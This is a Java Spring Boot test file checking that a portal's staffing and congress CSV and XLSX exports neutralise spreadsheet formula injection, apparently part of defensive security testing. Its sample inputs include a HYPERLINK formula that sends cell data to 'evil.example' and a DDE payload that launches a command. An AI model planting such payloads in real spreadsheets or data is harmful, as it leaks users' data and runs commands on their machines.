package vn.tochuc.portal.security;

import java.io.ByteArrayInputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.context.TestPropertySource;
import org.springframework.test.web.servlet.MockMvc;

import vn.tochuc.portal.accounts.PortalUser;
import vn.tochuc.portal.accounts.Role;
import vn.tochuc.portal.congress.CommitteeDraft;
import vn.tochuc.portal.congress.CommitteeLevel;
import vn.tochuc.portal.congress.Congress;
import vn.tochuc.portal.congress.CongressDetails;
import vn.tochuc.portal.congress.CongressService;
import vn.tochuc.portal.congress.CongressSpreadsheets;
import vn.tochuc.portal.congress.CongressStatus;
import vn.tochuc.portal.congress.CongressTerm;
import vn.tochuc.portal.congress.ElectedPerson;
import vn.tochuc.portal.congress.PartyCommittee;
import vn.tochuc.portal.congress.PersonRole;
import vn.tochuc.portal.congress.ResultValues;
import vn.tochuc.portal.platform.CsvSheet;
import vn.tochuc.portal.platform.ImportResult;
import vn.tochuc.portal.staffing.FigureValues;
import vn.tochuc.portal.staffing.StaffingPeriod;
import vn.tochuc.portal.staffing.StaffingService;
import vn.tochuc.portal.staffing.StaffingSpreadsheets;
import vn.tochuc.portal.staffing.StaffingUnit;
import vn.tochuc.portal.staffing.UnitDraft;
import vn.tochuc.portal.staffing.UnitKind;
import vn.tochuc.portal.staffing.UnitStatus;
import vn.tochuc.portal.support.TestContent;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.user;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;

/**
 * CSV (formula) injection, OWASP's rule: a name typed by staff that Excel or LibreOffice would
 * run as a formula or a DDE call reaches every .csv export with a leading apostrophe, plain
 * numbers stay numbers, importing the exported file back changes nothing, and the .xlsx exports
 * hold the same text as string cells, never formulas.
 */
@SpringBootTest
@AutoConfigureMockMvc
// the same context as SpreadsheetSafetyTest: their own units and committees, away from other tests
@TestPropertySource(properties = { "portal.site.province=Tỉnh thử an toàn bảng tính", "portal.imports.max-rows=50" })
class CsvFormulaInjectionTest {

	/** What a hostile or careless hand types as a name (the names are stripped, so tab and CR come below). */
	static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Bấm vào đây\")", "+1",
			"-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0");

	static final String TRIGGERS = "=+-@\t\r";

	@Autowired
	StaffingService staffing;

	@Autowired
	StaffingSpreadsheets staffingSheets;

	@Autowired
	CongressService congresses;

	@Autowired
	CongressSpreadsheets congressSheets;

	@Autowired
	TestContent content;

	@Autowired
	MockMvc mvc;

	// ---- staffing ----------------------------------------------------------------------------

	@Test
	void theStaffingExportNeutralisesHostileUnitNamesAndReimportsUnchanged() throws Exception {
		PortalUser statistics = content.user("thongke-congthuc", Role.STATISTICS);
		StaffingPeriod period = staffing.periodByCode("2041-2045").orElseGet(() -> staffing
			.createPeriod("Giai đoạn 2041 – 2045", 2041, 2045, new BigDecimal("5"), null, statistics));
		StaffingUnit root = unit("Tỉnh thử công thức", null, statistics);
		for (String name : HOSTILE) {
			StaffingUnit unit = unit(name, root.getId(), statistics);
			if (staffing.figure(unit.getId(), period.getId()).isEmpty()) {
				staffing.saveFigures(unit.getId(), period.getId(), null,
						FigureValues.of(13, 100, 5, 110, Map.of(2041, 2, 2042, 1)), statistics);
			}
		}

		byte[] csv = download("/admin/staffing/export.csv?period=" + period.getId(), statistics);
		List<List<String>> raw = RawCsv.cells(csv);
		assertNoCellStartsAFormula(raw);
		List<String> names = raw.stream().map((row) -> row.get(1)).toList();
		for (String name : HOSTILE) {
			assertThat(names).as("as written in the file").contains("'" + name);
		}
		// the figures are still numbers Excel can sum: no apostrophe
		assertThat(raw.get(raw.size() - 1).subList(3, 9)).containsExactly("13", "100", "5", "110", "2", "1");

		// read back (as the import does) every name is what staff typed
		assertThat(CsvSheet.read(csv).stream().map((row) -> row.get(1)).toList()).containsAll(HOSTILE);
		long changesBefore = changeCount(statistics);
		MockHttpServletResponse imported = mvc.perform(multipart("/admin/staffing/import")
			.file(new MockMultipartFile("file", "bien-che.csv", "text/csv", csv)).with(csrf()).with(user(statistics)))
			.andReturn().getResponse();
		assertThat(imported.getRedirectedUrl()).isEqualTo("/admin/staffing");
		assertThat(staffingSheets.importFile(csv, statistics).changed()).isZero();
		assertThat(changeCount(statistics)).isEqualTo(changesBefore);

		assertStringCellsOnly(download("/admin/staffing/export.xlsx?period=" + period.getId(), statistics), HOSTILE);
	}

	StaffingUnit unit(String name, Long parentId, PortalUser user) {
		return staffing.units().stream().filter((u) -> u.getName().equals(name)).findFirst()
			.orElseGet(() -> staffing.createUnit(new UnitDraft(name, parentId == null ? UnitKind.PROVINCE
					: UnitKind.GRASSROOTS, parentId, 0, false, null, UnitStatus.ACTIVE, null, null), user));
	}

	long changeCount(PortalUser user) {
		return staffing.units().stream().mapToLong((u) -> staffing.history(u.getId()).size()).sum();
	}

	// ---- congress ----------------------------------------------------------------------------

	@Test
	void theCongressExportNeutralisesHostileNamesAndPeopleAndReimportsUnchanged() throws Exception {
		PortalUser statistics = content.user("thongke-congthuc-dh", Role.STATISTICS);
		CongressTerm term = congresses.termByCode("2005-2010")
			.orElseGet(() -> congresses.createTerm("Nhiệm kỳ 2005 – 2010", 2005, 2010, statistics));
		for (int i = 0; i < HOSTILE.size(); i++) {
			String name = HOSTILE.get(i);
			int position = 900 + i;
			PartyCommittee committee = congresses.committees().stream().filter((c) -> c.getName().equals(name))
				.findFirst().orElseGet(() -> congresses.createCommittee(
						new CommitteeDraft(name, CommitteeLevel.ABOVE_GRASSROOTS, null, null, position), statistics));
			if (congresses.ofCommittee(committee.getId()).isEmpty()) {
				LocalDate day = LocalDate.of(2005, 5, 2).plusDays(i);
				Congress congress = congresses.createCongress(new CongressDetails(committee.getId(), term.getId(), 20,
						false, day, day, day.plusDays(1), "Hội trường", CongressStatus.HELD), statistics);
				List<ElectedPerson> people = List.of(new ElectedPerson(PersonRole.SECRETARY, name, "Bí thư"),
						new ElectedPerson(PersonRole.DEPUTY_SECRETARY, "-Lê Văn Phó", null),
						new ElectedPerson(PersonRole.INSPECTION_CHAIR, "@Trần Thị Kiểm", "Chủ nhiệm UBKT"));
				congresses.saveResult(congress.getId(), null, new ResultValues(300, 290, 45, 45, true, 13, 9, 20,
						new BigDecimal("15.5"), new BigDecimal("9.8"), new BigDecimal("30.1"), people), statistics);
			}
		}

		byte[] csv = download("/admin/congresses/export.csv?term=" + term.getId(), statistics);
		List<List<String>> raw = RawCsv.cells(csv);
		assertNoCellStartsAFormula(raw);
		List<String> committees = raw.stream().map((row) -> row.get(1)).toList();
		for (String name : HOSTILE) {
			assertThat(committees).contains("'" + name);
		}
		List<String> first = raw.get(1);
		assertThat(first.get(14)).startsWith("'").endsWith(" – Bí thư");
		assertThat(first.get(15)).isEqualTo("'-Lê Văn Phó");
		assertThat(first.get(16)).isEqualTo("'@Trần Thị Kiểm – Chủ nhiệm UBKT");
		// numbers and shares stay numbers
		assertThat(first.subList(3, 7)).containsExactly("300", "290", "45", "45");
		assertThat(first.subList(11, 14)).containsExactly("15,5", "9,8", "30,1");

		// the people are imported from the file: read back they are what was typed, so nothing changes
		ImportResult again = congressSheets.importFile(csv, statistics);
		assertThat(again.errors()).isEmpty();
		assertThat(again.rows()).isEqualTo(HOSTILE.size());
		assertThat(again.changed()).isZero();
		assertThat(mvc.perform(multipart("/admin/congresses/import")
			.file(new MockMultipartFile("file", "ket-qua.csv", "text/csv", csv)).with(csrf()).with(user(statistics)))
			.andReturn().getResponse().getRedirectedUrl()).isEqualTo("/admin/congresses");
		assertThat(congresses.rows(term, vn.tochuc.portal.congress.CongressFilter.none()).stream()
			.filter((r) -> r.result() != null)
			.map((r) -> r.values().secretary().getFullName())).containsExactlyInAnyOrderElementsOf(HOSTILE);

		// every term at once: the same rule
		assertNoCellStartsAFormula(RawCsv.cells(download("/admin/congresses/export.csv", statistics)));
		assertStringCellsOnly(download("/admin/congresses/export.xlsx?term=" + term.getId(), statistics), HOSTILE);
	}

	// ---- the one place every .csv goes through -----------------------------------------------

	@Test
	void everyFormulaStartIsNeutralisedPlainNumbersAreNotAndARoundTripIsExact() {
		List<String> values = List.of("=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", "=", "'=1+1",
				"''@x", "'-3", "'plain", "'", "-3", "-4,5", "-1.250", "12", "0", "Đảng bộ = tỉnh", "a-b", "");
		byte[] csv = CsvSheet.write(List.of(values));
		List<String> raw = RawCsv.cells(csv).get(0);
		assertThat(raw).containsExactly("'=1+1", "'+1", "'-2+3", "'@SUM(A1)", "'\t=1+1", "'\r=1+1", "'-", "'=",
				"''=1+1", "'''@x", "''-3", "'plain", "'", "-3", "-4,5", "-1.250", "12", "0", "Đảng bộ = tỉnh", "a-b", "");
		assertThat(CsvSheet.read(csv)).containsExactly(values);
		assertThat(CsvSheet.neutralise(null)).isEmpty();
	}

	// ---- helpers -------------------------------------------------------------------------------

	byte[] download(String path, PortalUser user) throws Exception {
		MockHttpServletResponse answer = mvc.perform(get(path).with(user(user))).andReturn().getResponse();
		assertThat(answer.getStatus()).as(path).isEqualTo(200);
		return answer.getContentAsByteArray();
	}

	/** What a spreadsheet program sees: no cell starts a formula, unless it is a plain number. */
	static void assertNoCellStartsAFormula(List<List<String>> raw) {
		for (List<String> row : raw) {
			for (String cell : row) {
				if (!cell.isEmpty() && TRIGGERS.indexOf(cell.charAt(0)) >= 0) {
					assertThat(cell).as("a cell starting with %s", cell.charAt(0)).matches("-\\d+([.,]\\d+)*");
				}
			}
		}
	}

	/** The .xlsx holds the names as typed, as text: no formula anywhere, not even in the file's XML. */
	static void assertStringCellsOnly(byte[] xlsx, List<String> names) throws Exception {
		List<String> found = new ArrayList<>();
		try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
			Sheet sheet = workbook.getSheetAt(0);
			for (Row row : sheet) {
				for (Cell cell : row) {
					assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
					if (cell.getCellType() == CellType.STRING && names.contains(cell.getStringCellValue())) {
						found.add(cell.getStringCellValue());
					}
				}
			}
		}
		assertThat(found).containsAll(names);
		try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(xlsx))) {
			for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
				if (entry.getName().startsWith("xl/worksheets/")) {
					assertThat(new String(zip.readAllBytes(), StandardCharsets.UTF_8)).doesNotContain("<f>", "<f ");
				}
			}
		}
	}

	/** The cells exactly as written in the file (quotes taken off, nothing else), as Excel gets them. */
	static final class RawCsv {

		static List<List<String>> cells(byte[] file) {
			String text = new String(file, StandardCharsets.UTF_8);
			assertThat(text).startsWith("\uFEFF");
			List<List<String>> rows = new ArrayList<>();
			List<String> row = new ArrayList<>();
			StringBuilder cell = new StringBuilder();
			boolean quoted = false;
			for (int i = 1; i < text.length(); i++) {
				char c = text.charAt(i);
				if (quoted) {
					if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
						cell.append('"');
						i++;
					}
					else if (c == '"') {
						quoted = false;
					}
					else {
						cell.append(c);
					}
				}
				else if (c == '"') {
					quoted = true;
				}
				else if (c == ',') {
					row.add(cell.toString());
					cell.setLength(0);
				}
				else if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
					row.add(cell.toString());
					cell.setLength(0);
					rows.add(row);
					row = new ArrayList<>();
					i++;
				}
				else {
					cell.append(c);
				}
			}
			return rows;
		}

	}

}
